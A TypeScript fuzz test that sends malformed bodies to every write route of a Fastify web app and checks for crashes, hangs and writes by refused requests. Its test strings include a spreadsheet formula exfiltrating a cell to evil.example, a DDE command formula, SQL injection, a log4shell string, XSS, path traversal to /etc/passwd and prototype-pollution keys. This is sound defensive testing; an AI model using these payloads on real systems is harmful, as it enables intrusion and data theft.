import { NOT_LOGGED_IN_MARK } from '@zhuji/shared';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { drainImportJobs } from '../src/platform/jobs/import-jobs';
import { loginAs } from './auth';
import { seededApp } from './seeded-app';

/*
 * Every write call (POST and PUT, walked from the app's own route table) is sent bad bodies by a
 * fully privileged member: noise (wrong types, huge and strange strings, odd numbers, prototype keys,
 * formulas, SQL, deep nesting, broken multipart, wrong content types) and mutations of a valid-ish
 * body derived from the call's own contract. Every answer must come (within HANG_MS), must not be
 * a 5xx, and a refused request must not have changed a row: a trigger on every table logs each row
 * written, counted before and after each request.
 *
 * FUZZ_RUNS (default 50) bodies per call; FUZZ_SEED replays a run.
 */
const RUNS = Number(process.env.FUZZ_RUNS ?? 50);
const SEED = Number(process.env.FUZZ_SEED ?? 20261127);
const HANG_MS = 10_000;
/** Tables a refused request may legitimately write: the caller's session (last seen) and login nonces. */
const UNWATCHED = new Set(['session', 'login_nonce', 'fuzz_row_log']);

/**
 * The fuzz of every write route, split in `of` shards by the routes' order (shard `shard` takes every
 * `of`-th route): each shard is its own test file with its own database, so the shards run side by
 * side instead of one long file holding the suite's tail (src/platform/fuzz/write-routes-*.fuzz.test.ts).
 */
export function fuzzWriteRoutes(shard: number, of: number): void {
  const t = seededApp();
  const db = () => t.db;
  const tokens: Record<string, string> = {};
  let projectId = 0;

  interface WriteRoute {
    method: 'POST' | 'PUT';
    url: string;
    body: JsonSchema | undefined;
    query: Record<string, JsonSchema>;
  }
  interface JsonSchema {
    type?: string | string[];
    properties?: Record<string, JsonSchema>;
    required?: string[];
    items?: JsonSchema;
    enum?: unknown[];
    const?: unknown;
    anyOf?: JsonSchema[];
    oneOf?: JsonSchema[];
    allOf?: JsonSchema[];
    minimum?: number;
    maximum?: number;
    exclusiveMinimum?: boolean | number;
    minLength?: number;
    maxLength?: number;
    minItems?: number;
    pattern?: string;
    format?: string;
    default?: unknown;
    nullable?: boolean;
  }

  const stats = { routes: 0, requests: 0, fiveXx: 0, hangs: 0, written: 0 };
  const findings: string[] = [];
  const statuses = new Map<number, number>();
  const timings: [number, string][] = [];
  let logged = 0;
  /** How the valid-ish body of each route was answered: how deep the mutations of it reach. */
  const probes = new Map<number, number>();

  // ---------- valid-ish bodies from the contract ----------

  const PATTERN_CANDIDATES = [
    '2024-05-01',
    '2024-05-01 08:00:00',
    '2024-05-01T08:00:00.000Z',
    '08:00',
    '13800138000',
    '0571-88888888',
    'ABC123',
    'A1',
    '1',
    '1.5',
    'C30',
    'abc',
    '330102',
    '91330100MA27XXXX1X',
    'a@b.cn',
  ];

  /** Strings the contracts check with refinements (no pattern in the JSON Schema), by field name. */
  const NAMED_STRINGS: [RegExp, string][] = [
    [/phone|mobile|tel/i, '13800138000'],
    [/idNumber|idCard/i, '11010519491231002X'],
    [/creditCode/i, '91350100M000100Y43'],
    [/plate/i, '浙A12345'],
    [/grade$/i, 'C30'],
    [/month/i, '2024-05-01'],
    [/(start|end|time)$/i, '2024-05-01 08:00'],
    [/date|On$|deadline|until|By$|day$/i, '2024-05-01'],
    [/period/i, '2024'],
    [/numbers$/i, '1,3,5-6'],
    [/length$/i, '25'],
    [
      /money|value|amount|price|rate|quantity|volume|area|stock|score|diameter|height|floor|weight|depth|^x$|^y$|^z$/i,
      '1.5',
    ],
  ];

  function example(schema: JsonSchema | undefined, name = '', depth = 0): unknown {
    if (!schema || depth > 8) return null;
    if (schema.const !== undefined) return schema.const;
    if (schema.enum?.length) return schema.enum[0];
    const alternatives = schema.anyOf ?? schema.oneOf;
    if (alternatives?.length) {
      const first = alternatives.find((a) => a.type !== 'null') ?? alternatives[0];
      return example(first, name, depth + 1);
    }
    if (schema.allOf?.length) return example(Object.assign({}, ...schema.allOf), name, depth + 1);
    const type = Array.isArray(schema.type) ? schema.type.find((x) => x !== 'null') : schema.type;
    switch (type) {
      case 'object': {
        const out: Record<string, unknown> = {};
        for (const [key, sub] of Object.entries(schema.properties ?? {}))
          out[key] = example(sub, key, depth + 1);
        return out;
      }
      case 'array': {
        const n = Math.max(1, schema.minItems ?? 1);
        return Array.from({ length: n }, (_, i) => {
          const item = example(schema.items, name, depth + 1);
          return typeof item === 'number' && /ids$/i.test(name) ? item + i : item;
        });
      }
      case 'integer':
      case 'number': {
        if (/^(pro|project)Id$/i.test(name)) return projectId;
        if (name === 'limit') return 10;
        const min =
          typeof schema.minimum === 'number' ? schema.minimum + (schema.exclusiveMinimum ? 1 : 0) : 1;
        const n = Math.max(min, 1);
        return schema.maximum !== undefined && n > schema.maximum ? schema.maximum : n;
      }
      case 'boolean':
        return true;
      case 'string': {
        const min = schema.minLength ?? 1;
        const max = schema.maxLength ?? 100;
        const fits = (s: string) => s.length >= min && s.length <= max;
        if (schema.format === 'date') return '2024-05-01';
        if (schema.format === 'date-time') return '2024-05-01T08:00:00.000Z';
        if (schema.pattern) {
          let re: RegExp | undefined;
          try {
            re = new RegExp(schema.pattern, 'u');
          } catch {
            re = undefined;
          }
          const found = PATTERN_CANDIDATES.find((c) => fits(c) && (re ? re.test(c) : true));
          if (found) return found;
        }
        if (schema.format === 'uuid') return '00000000-0000-4000-8000-000000000001';
        const byName = NAMED_STRINGS.find(([re, v]) => re.test(name) && fits(v));
        if (byName) return byName[1];
        return 'fuzz'.padEnd(min, 'z').slice(0, Math.max(min, Math.min(max, 4)));
      }
      case 'null':
        return null;
      default:
        return 'fuzz';
    }
  }

  // ---------- bad values ----------

  /** Stand-ins for what JSON.stringify cannot write; swapped into the text afterwards. */
  const RAW = { nan: '\u0001NaN\u0001', inf: '\u0001INF\u0001', negInf: '\u0001NINF\u0001' } as const;
  const rawText = (json: string) =>
    json
      .replaceAll(`"${RAW.nan}"`, 'NaN')
      .replaceAll(`"${RAW.inf}"`, '1e309')
      .replaceAll(`"${RAW.negInf}"`, '-1e309');

  const MB = 1024 * 1024;
  const strangeStrings = fc.constantFrom(
    '',
    ' ',
    '\u0000',
    'a\u0000b',
    '\ud800',
    'x\udfffy',
    '👷‍♀️🏗️💥'.repeat(20),
    '\u202e\u0645\u0631\u062d\u0628\u0627\u202c',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '@SUM(1,1)',
    "'; DROP TABLE app_user; --",
    "1' OR '1'='1",
    '1; select pg_sleep(20)',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style string is the point
    '${jndi:ldap://x}',
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    '%00%ff',
    '9'.repeat(400),
    '-1',
    '1.5',
    'NaN',
    'null',
    'true',
    '[]',
    '{}',
    '2024-02-30',
    '2024-13-45T99:99:99Z',
    '0000-00-00',
    ' 13800138000 ',
  );
  const hugeString = fc.constantFrom(MB + 17, 200_000, 5000).map((n) => 'Ω'.repeat(Math.ceil(n / 2)));
  const badNumbers = fc.constantFrom<unknown>(
    RAW.nan,
    RAW.inf,
    RAW.negInf,
    -1,
    0,
    -0,
    0.5,
    1.5,
    -2.5,
    2 ** 31,
    2 ** 53 + 1,
    Number.MAX_SAFE_INTEGER,
    1e300,
    -1e300,
    999_999_999,
  );
  const leaf = fc.oneof(
    { weight: 3, arbitrary: badNumbers },
    { weight: 3, arbitrary: strangeStrings },
    { weight: 1, arbitrary: hugeString },
    { weight: 1, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [1, 2], { id: 1 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.integer() },
    { weight: 1, arbitrary: fc.double() },
  );
  const deep = fc.integer({ min: 50, max: 3000 }).map((n) => {
    let v: unknown = 1;
    for (let i = 0; i < n; i++) v = i % 2 ? [v] : { a: v };
    return v;
  });
  const protoKeys = fc.constantFrom('__proto__', 'constructor', 'prototype');

  // ---------- requests ----------

  interface Sent {
    payload: string | Buffer;
    contentType?: string;
    note: string;
  }

  const json = (value: unknown, note: string): Sent => ({
    payload: rawText(JSON.stringify(value) ?? 'null'),
    contentType: 'application/json',
    note,
  });

  /** Puts `key: value` into the JSON text as an own property (an object literal would set the prototype). */
  const withOwnKey = (body: unknown, key: string, value: unknown): Sent => {
    const base = body && typeof body === 'object' && !Array.isArray(body) ? body : {};
    const inner = JSON.stringify(base).slice(1, -1);
    const extra = `${JSON.stringify(key)}:${rawText(JSON.stringify(value) ?? 'null')}`;
    return {
      payload: rawText(`{${inner ? `${inner},` : ''}${extra}}`),
      contentType: 'application/json',
      note: `own key ${key}`,
    };
  };

  const BOUNDARY = 'fuzzBoundary';
  const formFile = (name: string, bytes: string) =>
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"; filename="a.xlsx"\r\nContent-Type: application/octet-stream\r\n\r\n${bytes}`;
  const formField = (name: string, value: string) =>
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}`;
  const brokenMultipart = fc.oneof(
    fc.constant<Sent>({
      payload: 'no boundary',
      contentType: 'multipart/form-data',
      note: 'multipart, no boundary',
    }),
    fc.constant<Sent>({
      payload: '',
      contentType: `multipart/form-data; boundary=${BOUNDARY}`,
      note: 'multipart, empty',
    }),
    fc.constant<Sent>({
      payload: `${formField('title', 't')}\r\n${formFile('file', 'PK\u0003\u0004 cut')}`,
      contentType: `multipart/form-data; boundary=${BOUNDARY}`,
      note: 'multipart, truncated file',
    }),
    fc.constant<Sent>({
      payload: formField('title', 'cut'),
      contentType: `multipart/form-data; boundary=${BOUNDARY}`,
      note: 'multipart, truncated field',
    }),
    fc.constant<Sent>({
      payload: `${formField('__proto__', 'x')}\r\n--${BOUNDARY}--\r\n`,
      contentType: `multipart/form-data; boundary=${BOUNDARY}`,
      note: 'multipart, __proto__ field',
    }),
    fc.constant<Sent>({
      payload: `${formFile('file', 'x')}\r\n${formFile('file', 'y')}\r\n--${BOUNDARY}--\r\n`,
      contentType: `multipart/form-data; boundary=${BOUNDARY}`,
      note: 'multipart, two files',
    }),
    fc.constant<Sent>({
      payload: `${formField('title', 'x'.repeat(10_000))}\r\n${formField('recipientIds', '-1,abc,1e309')}\r\n--${BOUNDARY}--\r\n`,
      contentType: `multipart/form-data; boundary=${BOUNDARY}`,
      note: 'multipart, long and bad fields',
    }),
    fc.tuple(fc.string({ unit: 'binary', maxLength: 200 }), fc.boolean()).map(
      ([garbage, closed]): Sent => ({
        payload: `${formFile('file', garbage)}\r\n${closed ? `--${BOUNDARY}--\r\n` : ''}`,
        contentType: `multipart/form-data; boundary=${BOUNDARY}`,
        note: `multipart, garbage file${closed ? '' : ', unclosed'}`,
      }),
    ),
    fc.constant<Sent>({
      payload: `--${BOUNDARY}\r\ngarbage headers\r\n\r\n--${BOUNDARY}--`,
      contentType: `multipart/form-data; boundary="${BOUNDARY}"`,
      note: 'multipart, bad part headers',
    }),
  );
  const wrongContentType = fc.oneof(
    fc.constant<Sent>({ payload: '{"id":1}', contentType: 'text/plain', note: 'text/plain' }),
    fc.constant<Sent>({
      payload: 'id=1&ids=2',
      contentType: 'application/x-www-form-urlencoded',
      note: 'form urlencoded',
    }),
    fc.constant<Sent>({ payload: '<a>1</a>', contentType: 'application/xml', note: 'xml' }),
    fc.constant<Sent>({
      payload: Buffer.from('PK\u0003\u0004garbage'),
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      note: 'xlsx garbage',
    }),
    fc.constant<Sent>({
      payload: Buffer.alloc(64, 0xff),
      contentType: 'application/octet-stream',
      note: 'octet garbage',
    }),
    fc.constant<Sent>({ payload: '{"id":1', contentType: 'application/json', note: 'broken json' }),
    fc.constant<Sent>({ payload: '', contentType: 'application/json', note: 'empty json' }),
    fc.constant<Sent>({
      payload: '{"id":1}',
      contentType: 'application/json; charset=utf-16',
      note: 'json utf-16',
    }),
  );

  /** Every path to a value inside a valid-ish body. */
  function paths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
    if (value && typeof value === 'object') {
      const entries = Array.isArray(value) ? value.map((v, i) => [i, v] as const) : Object.entries(value);
      return [prefix, ...entries.flatMap(([k, v]) => paths(v, [...prefix, k]))];
    }
    return [prefix];
  }
  function setAt(value: unknown, path: (string | number)[], replacement: unknown, remove = false): unknown {
    if (path.length === 0) return replacement;
    const [head, ...rest] = path as [string | number, ...(string | number)[]];
    if (Array.isArray(value)) {
      const copy = [...value];
      if (rest.length === 0 && remove) copy.splice(Number(head), 1);
      else copy[Number(head)] = setAt(copy[Number(head)], rest, replacement, remove);
      return copy;
    }
    const copy: Record<string, unknown> = { ...(value as Record<string, unknown>) };
    if (rest.length === 0 && remove) delete copy[head];
    else copy[head] = setAt(copy[head], rest, replacement, remove);
    return copy;
  }

  function bodies(route: WriteRoute): fc.Arbitrary<Sent> {
    const valid = route.body ? example(route.body) : {};
    const spots = paths(valid);
    const mutated = fc.oneof(
      fc
        .tuple(fc.constantFrom(...spots), leaf)
        .map(([p, v]) => json(setAt(valid, p, v), `${p.join('.') || 'body'} := bad value`)),
      fc
        .tuple(fc.constantFrom(...spots), fc.constantFrom(...spots), leaf)
        .map(([a, b, v]) =>
          json(setAt(setAt(valid, a, v), b, v), `${a.join('.')} and ${b.join('.')} := bad`),
        ),
      fc
        .constantFrom(...spots.filter((p) => p.length > 0), [])
        .map((p) =>
          json(p.length ? setAt(valid, p, undefined, true) : {}, `without ${p.join('.') || 'everything'}`),
        ),
      fc
        .tuple(fc.string({ minLength: 1, maxLength: 12 }), leaf)
        .map(([k, v]) => json({ ...(valid as object), [k]: v }, `extra field ${k}`)),
      fc
        .tuple(protoKeys, fc.constantFrom<unknown>({ isAdmin: true, id: 1 }, 1, 'x'))
        .map(([k, v]) => withOwnKey(valid, k, v)),
      fc
        .constantFrom(...spots)
        .map((p) => json(setAt(valid, p, [valid]), `${p.join('.') || 'body'} := array`)),
      fc
        .constantFrom(...spots)
        .map((p) => json(setAt(valid, p, { nested: valid }), `${p.join('.') || 'body'} := object`)),
    );
    const noise = fc.oneof(
      leaf.map((v) => json(v, 'body := bad value')),
      fc.jsonValue({ maxDepth: 3 }).map((v) => json(v, 'random json')),
      deep.map((v) => json(v, 'deeply nested')),
      fc.array(leaf, { maxLength: 5 }).map((v) => json(v, 'array body')),
      fc.dictionary(fc.string({ maxLength: 8 }), leaf, { maxKeys: 6 }).map((v) => json(v, 'random object')),
    );
    return fc.oneof(
      { weight: 6, arbitrary: mutated },
      { weight: 3, arbitrary: noise },
      { weight: route.body ? 1 : 3, arbitrary: brokenMultipart },
      { weight: 1, arbitrary: wrongContentType },
    );
  }

  // ---------- the run ----------

  /** The last logged row's id: a request that committed a row moves it (a rolled-back one leaves no row). */
  const rowLog = async () =>
    Number(
      (await db().execute(sql.raw('select coalesce(max(id), 0)::int as n from fuzz_row_log'))).rows[0]?.n ??
        0,
    );

  async function answered(opts: InjectOptions): Promise<LightMyRequestResponse | 'hang'> {
    let timer: NodeJS.Timeout | undefined;
    const timeout = new Promise<'hang'>((resolve) => {
      timer = setTimeout(() => resolve('hang'), HANG_MS);
    });
    try {
      return await Promise.race([t.app.inject(opts), timeout]);
    } finally {
      clearTimeout(timer);
    }
  }

  /** The caller may act here, or the test would only see its 403: zhangjianguo, else the platform admin. */
  const callers = ['zhangjianguo', 'admin'] as const;
  type Caller = (typeof callers)[number];

  async function session(user: Caller): Promise<string> {
    const token = tokens[user];
    if (token) {
      const info = await t.app.inject({ url: '/api/user/info', headers: { 'x-auth-token': token } });
      if (info.json().code === 200) return token;
    }
    tokens[user] = await loginAs(t.app, user).catch(async () => {
      // A valid-ish body may legitimately have reset this caller's password, disabled or locked
      // them (role/resetPassword, user/disable… on id 1): put the account back as seeded.
      await db().execute(sql`
      update app_user set password_hash = ${saved[user]?.password_hash}, must_change_password = false,
        failed_logins = 0, locked_until = null, status = 'active'
      where account = ${user}`);
      return loginAs(t.app, user);
    });
    return tokens[user] as string;
  }

  /** The callers' accounts as seeded. */
  const saved: Record<string, { password_hash: string }> = {};

  function urlOf(route: WriteRoute) {
    const path = route.url.replace(/\{[^}]+\}/g, '1');
    const query = Object.entries(route.query)
      .map(([k, s]) => `${k}=${encodeURIComponent(String(example(s, k)))}`)
      .join('&');
    return query ? `${path}?${query}` : path;
  }

  /** The caller that gets past the access check with a valid-ish body (zhangjianguo first). */
  async function callerFor(route: WriteRoute): Promise<Caller> {
    for (const user of callers) {
      // A caller who cannot log in by password alone (a second factor) is skipped, not a finding.
      const token = await session(user).catch(() => undefined);
      if (!token) continue;
      const res = await answered({
        method: route.method,
        url: urlOf(route),
        headers: { 'x-auth-token': token, 'content-type': 'application/json' },
        payload: json(route.body ? example(route.body) : {}, 'valid-ish').payload,
      });
      if (res !== 'hang' && res.statusCode !== 403) {
        if (process.env.FUZZ_DEBUG)
          console.log(`[probe] ${route.method} ${route.url} ${res.statusCode} ${res.body.slice(0, 200)}`);
        probes.set(res.statusCode, (probes.get(res.statusCode) ?? 0) + 1);
        return user;
      }
    }
    return 'zhangjianguo';
  }

  const routes: WriteRoute[] = [];

  beforeAll(async () => {
    const spec = t.app.swagger() as { paths: Record<string, Record<string, FuzzOperation>> };
    for (const [path, operations] of Object.entries(spec.paths))
      for (const [method, op] of Object.entries(operations)) {
        if (method !== 'post' && method !== 'put') continue;
        const query: Record<string, JsonSchema> = {};
        for (const p of op.parameters ?? []) if (p.in === 'query' && p.required) query[p.name] = p.schema;
        routes.push({
          method: method.toUpperCase() as 'POST' | 'PUT',
          url: path,
          body: op.requestBody?.content?.['application/json']?.schema,
          query,
        });
      }
    const accounts = await db().execute(
      sql.raw("select account, password_hash from app_user where account in ('zhangjianguo', 'admin')"),
    );
    for (const row of accounts.rows as { account: string; password_hash: string }[]) saved[row.account] = row;
    const zhang = await loginAs(t.app, 'zhangjianguo');
    tokens.zhangjianguo = zhang;
    const me = (await t.app.inject({ url: '/api/user/info', headers: { 'x-auth-token': zhang } })).json();
    projectId = me.data.currentProject.id;

    // Every row any request writes, in any table but the session's, is logged by a trigger.
    await db().execute(
      sql.raw(`
    create table fuzz_row_log (id bigserial primary key, tbl text not null, op text not null);
    create function fuzz_log_row() returns trigger language plpgsql as $$
    begin insert into fuzz_row_log (tbl, op) values (TG_TABLE_NAME, TG_OP); return null; end $$;`),
    );
    const { rows } = await db().execute(
      sql.raw("select tablename from pg_tables where schemaname = 'public' order by tablename"),
    );
    for (const { tablename } of rows as { tablename: string }[])
      if (!UNWATCHED.has(tablename))
        await db().execute(
          sql.raw(
            `create trigger fuzz_log after insert or update or delete on "${tablename}" for each row execute function fuzz_log_row()`,
          ),
        );
  }, 120_000);

  interface FuzzOperation {
    parameters?: { in: string; name: string; required?: boolean; schema: JsonSchema }[];
    requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
  }

  afterAll(async () => {
    console.log(
      `[fuzz] routes ${stats.routes}, requests ${stats.requests}, 5xx ${stats.fiveXx}, hangs ${stats.hangs}, ` +
        `rows changed by rejected requests ${stats.written} (seed ${SEED}, ${RUNS} runs per route, shard ${shard + 1} of ${of})`,
    );
    console.log(
      `[fuzz] statuses ${[...statuses]
        .sort((a, b) => a[0] - b[0])
        .map(([s, n]) => `${s}×${n}`)
        .join(' ')}`,
    );
    console.log(
      `[fuzz] valid-ish bodies answered ${[...probes]
        .sort((a, b) => a[0] - b[0])
        .map(([s, n]) => `${s}×${n}`)
        .join(' ')}`,
    );
    console.log(
      `[fuzz] slowest ${timings
        .sort((a, b) => b[0] - a[0])
        .slice(0, 8)
        .map(([ms, r]) => `${r} ${ms} ms`)
        .join('; ')}`,
    );
    for (const f of findings) console.log(`[fuzz] ${f}`);
    await drainImportJobs();
  });

  it('when the route table is walked, then there are write routes to fuzz', () => {
    expect(routes.length).toBeGreaterThan(100);
  });

  describe('every write route', () => {
    it(
      'when sent bad bodies, then each is answered, none with a 5xx, and a refused one writes nothing',
      async () => {
        for (const [index, route] of routes.entries()) {
          if (index % of !== shard) continue;
          stats.routes++;
          const started = Date.now();
          const caller = await callerFor(route);
          await session(caller);
          await drainImportJobs();
          logged = await rowLog();
          const url = urlOf(route);
          const result = await fc.check(
            fc.asyncProperty(bodies(route), async (sent) => {
              const token = tokens[caller] as string;
              // The log as the previous request left it (read after each one): one query per request.
              const before = logged;
              stats.requests++;
              const res = await answered({
                method: route.method,
                url,
                headers: {
                  'x-auth-token': token,
                  ...(sent.contentType ? { 'content-type': sent.contentType } : {}),
                },
                payload: sent.payload,
              });
              const what = `${route.method} ${url} [${caller}] ${sent.note}`;
              if (res === 'hang') {
                stats.hangs++;
                findings.push(`hang: ${what}`);
                return false;
              }
              if (res.statusCode >= 500) {
                stats.fiveXx++;
                findings.push(`${res.statusCode}: ${what}: ${res.body.slice(0, 300)}`);
                return false;
              }
              statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
              const envelope = (() => {
                try {
                  return JSON.parse(res.body) as { code?: unknown; data?: unknown };
                } catch {
                  return undefined;
                }
              })();
              const code = envelope?.code;
              const refused = res.statusCode >= 300 || (code !== undefined && code !== 200);
              await drainImportJobs();
              const after = await rowLog();
              logged = after;
              // A call that ends the session (logout, a password change) must not leave the rest shallow.
              if (envelope?.data === NOT_LOGGED_IN_MARK) {
                delete tokens[caller];
                await session(caller);
                logged = await rowLog();
              }
              if (refused && after !== before) {
                const { rows } = await db().execute(
                  sql.raw(`select tbl, op from fuzz_row_log where id > ${before} order by id limit 20`),
                );
                stats.written++;
                findings.push(
                  `wrote rows (${rows.map((r) => `${r.op} ${r.tbl}`).join(', ')}) yet answered ${res.statusCode}/${String(code)}: ${what}`,
                );
                return false;
              }
              return true;
            }),
            { numRuns: RUNS, seed: SEED, endOnFailure: true },
          );
          timings.push([Date.now() - started, `${route.method} ${url}`]);
          if (result.failed && !findings.some((f) => f.includes(`${route.method} ${url} `)))
            findings.push(
              `failed: ${route.method} ${url}: ${String(result.errorInstance ?? result.counterexample)}`,
            );
        }
        expect(findings).toEqual([]);
      },
      30 * 60_000,
    );
  });
}
